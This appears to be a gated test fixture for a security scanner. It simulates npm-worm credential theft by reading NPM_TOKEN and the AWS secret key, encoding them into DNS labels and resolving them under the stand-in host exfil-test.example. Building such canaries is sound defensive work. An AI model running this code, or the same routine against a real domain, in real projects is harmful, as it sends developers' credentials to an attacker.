// Simulates the credential theft of the 2025 npm worms (Shai-Hulud, the Nx
// "s1ngularity" payload), which read tokens from the environment and the
// home directory and sent them to the attacker; here through DNS, the channel
// that works where outbound connections are blocked: the data is encoded
// into the labels of a name under the attacker's domain, whose name server
// receives it.
// What this does instead, harmlessly: it reads $NPM_TOKEN and the
// aws_secret_access_key of ~/.aws/credentials (in the sandbox worthless
// canaries planted for the scan), hex-encodes the first and base32-encodes
// the second, splits each across DNS labels and looks the names up under
// exfil-test.example (.example is reserved by RFC 2606 and never resolves;
// the sandbox's resolver is a sinkhole on loopback). Nothing reaches anyone.
'use strict';
const dns = require('dns');
const fs = require('fs');
const os = require('os');
const path = require('path');

if (!fs.existsSync(path.join(__dirname, 'armed'))) {
  console.log("attack-canary-exfil: not armed by scanfarm's tests, doing nothing");
  process.exit(0);
}
const b32 = (buf) => { // RFC 4648, lower case, no padding
  const a = 'abcdefghijklmnopqrstuvwxyz234567';
  let bits = 0, v = 0, out = '';
  for (const b of buf) {
    v = (v << 8) | b; bits += 8;
    while (bits >= 5) { out += a[(v >>> (bits - 5)) & 31]; bits -= 5; }
  }
  return bits ? out + a[(v << (5 - bits)) & 31] : out;
};
const labels = (s) => s.match(/.{1,40}/g).join('.');
let creds = '';
try { creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch (e) { /* none */ }
const secret = (creds.match(/aws_secret_access_key\s*=\s*(\S+)/) || [])[1] || '';
const token = process.env.NPM_TOKEN || '';
const names = [];
if (token) names.push(`${labels(Buffer.from(token).toString('hex'))}.t.exfil-test.example`);
if (secret) names.push(`${labels(b32(Buffer.from(secret)))}.k.exfil-test.example`);
console.log(`attack-canary-exfil: ${names.length} names to look up`);
const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
let pending = names.length;
for (const n of names)
  resolver.resolve4(n, (err) => {
    console.log(`attack-canary-exfil: lookup ${err ? err.code : 'answered'}`);
    if (--pending === 0) process.exit(0);
  });
setTimeout(() => process.exit(0), 8000).unref();
